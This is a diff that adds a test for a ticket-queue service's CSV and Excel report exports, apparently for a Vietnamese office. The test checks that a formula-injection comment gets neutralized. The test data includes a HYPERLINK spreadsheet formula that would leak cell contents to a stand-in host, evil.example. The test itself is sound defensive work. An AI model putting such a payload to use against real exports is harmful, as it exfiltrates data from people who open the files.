@@ -103,3 +103,36 @@ def test_long_exports(hall):
     assert server.get(f"reports/tickets.xlsx?from={quarter}&to={day}", token=boss).status_code == 200
     resp = server.get(f"reports/tickets.xlsx?from={quarter - timedelta(days=1)}&to={day}", token=boss)
     assert resp.status_code == 422 and resp.json()["error"]["code"] == "invalid_value"
+
+
+def test_the_csv_a_supervisor_downloads_is_safe_and_readable(hall, auth):
+    """Through the real API: a low rating whose comment is a formula, read back from the CSV."""
+    server, made = hall
+    boss, lan, kiosk = made["supervisor"]["boss"], made["staff"]["lan"], made["kiosk"]["k1"]
+    tablet = auth(server).rating("r-export")
+    comment = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem kết quả")'
+    ticket = server.post("tickets", {"service": "DKKD"}, token=kiosk).json()["ticket"]
+    assert server.post("counters/5/call", {"number": ticket["number"]}, token=lan).status_code == 200
+    assert server.post("counters/5/finish", token=lan).status_code == 200
+    resp = server.post("counters/5/rating", {"score": 1, "reason": "long_wait", "comment": comment}, token=tablet)
+    assert resp.status_code == 201, resp.text
+    day = server.get("dashboard", token=boss).json()["day"]
+
+    text = server.get(f"reports/tickets.csv?from={day}&to={day}", token=boss).content.decode("utf-8-sig")
+    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["Số thứ tự"] == ticket["number"])
+    assert row["Góp ý"] == "'" + comment
+    assert (row["Trạng thái"], row["Lý do"], row["Đánh giá"]) == ("Đã xong", "Chờ quá lâu", "1")
+    assert (row["Mã trạng thái"], row["Mã lý do"]) == ("done", "long_wait")
+
+    text = server.get(f"reports/tickets.csv?from={day}&to={day}&lang=en", token=boss).content.decode("utf-8-sig")
+    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["Number"] == ticket["number"])
+    assert (row["Status"], row["Reason"], row["Comment"]) == ("Done", "Waited too long", "'" + comment)
+
+    ws = load_workbook(io.BytesIO(server.get(f"reports/tickets.xlsx?from={day}&to={day}", token=boss).content)).active
+    header = [c.value for c in ws[1]]
+    cell = next(r for r in ws.iter_rows(min_row=2) if r[1].value == ticket["number"])[header.index("Góp ý")]
+    assert (cell.value, cell.data_type) == (comment, "s")  # a text cell, not a formula
+    wb = load_workbook(io.BytesIO(server.get(f"reports/summary.xlsx?from={day}&to={day}&lang=en", token=boss).content))
+    assert wb.sheetnames[0] == "Summary"
+    resp = server.get(f"reports/tickets.csv?from={day}&to={day}&lang=fr", token=boss)
+    assert resp.status_code == 422 and resp.json()["error"]["code"] == "invalid_value"
